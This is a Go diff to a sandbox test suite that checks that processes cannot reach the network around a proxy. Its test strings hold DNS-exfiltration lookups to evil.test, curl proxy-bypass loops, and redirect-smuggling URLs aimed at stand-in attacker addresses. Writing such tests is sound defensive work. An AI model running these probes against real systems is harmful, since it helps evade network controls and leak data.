@@ -20,7 +20,7 @@ func direct() []escape {
 		h.closers = append(h.closers, func() { _ = c.Close() })
 	}
 	silent := &testnet.Limits{Silent: true}
-	list := rules("allowed.test", "*.allowed.test:1-65535", "93.184.216.0/24:1-65535")
+	list := rules("allowed.test", "*.allowed.test:1-65535")
 	hostNet := control{Flags: []string{"--network=host"}}
 	return []escape{
 		{
@@ -44,8 +44,8 @@ func direct() []escape {
 		{
 			ID: "E22.5", Name: "no resolver is asked but by the proxy, so that no name carries anything out", Matrix: rowDirect, Flags: list, Net: silent,
 			Sh: `{attacker} direct dns 127.0.0.1:53 dns 9.9.9.9:53 dns [2620:fe::fe]:53 dns 169.254.169.254:53 tcp 127.0.0.1:53 tcp 93.184.216.53:53
-				getent ahosts secret1.evil.test && echo OPEN getent; getent hosts secret2.allowed.test && echo OPEN getent
-				curl -s --noproxy '*' --max-time 3 http://secret3.allowed.test/; true`,
+				getent ahosts secret1.evil.test && echo OPEN getent; getent hosts secret2.allowed.test | grep -v '^198[.]18[.]' && echo OPEN getent
+				curl -s --noproxy '*' --max-time 3 http://secret3.evil.test/; true`,
 		},
 		{
 			ID: "E22.6", Name: "no protocol leads out: UDP, QUIC, ICMP, SCTP, DCCP, raw, and none of them on IPv6", Matrix: rowDirect, Flags: list, Net: silent,
@@ -71,11 +71,11 @@ func direct() []escape {
 			Control: control{None: "such a namespace leads nowhere without a sandbox either"},
 		},
 		{
-			ID: "E22.9", Name: "without the proxy's variables there is no network, not even to what is allowed", Matrix: rowDirect, Flags: list,
-			Net: &testnet.Limits{Silent: true, Asks: []string{"allowed.test"}},
-			Sh: `{attacker} follow direct http://allowed.test/ https://allowed.test/ http://` + testnet.AllowedAddr + `/
+			ID: "E22.9", Name: "without the proxy's variables the rules are the same", Matrix: rowDirect, Flags: list,
+			Net: &testnet.Limits{Good: []string{"allowed.test"}},
+			Sh: `{attacker} follow direct http://evil.test/ https://evil.test/ http://` + testnet.EvilAddr + `/ 'http://allowed.test/?redirect=http://evil.test/' 'https://allowed.test/?redirect=http://` + testnet.EvilAddr + `/'
 				for c in 'env -i curl' 'env NO_PROXY=* no_proxy=* curl' 'curl --noproxy *' 'env -u http_proxy -u ALL_PROXY -u all_proxy curl' 'curl -x http://` + testnet.EvilAddr + `:80' 'curl -x socks5h://` + testnet.EvilAddr + `:80'; do
-					set -f; $c -sk --max-time 3 http://a.allowed.test/ | grep -e permitted -e forbidden && echo OPEN $c; done; true`,
+					set -f; $c -sk --max-time 3 http://evil.test/ | grep forbidden && echo OPEN $c; $c -sk --max-time 3 http://` + testnet.EvilAddr + `/ | grep forbidden && echo OPEN $c; done; true`,
 		},
 		{
 			ID: "E22.10", Name: "commands that git and ssh connect with find no other way", Matrix: rowDirect, Flags: rules("allowed.test"), Net: silent,
